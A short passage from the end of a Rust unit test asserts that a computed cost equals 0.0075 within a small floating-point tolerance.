    assert!((cost - 0.0075).abs() < 1e-9, "{cost}");
}
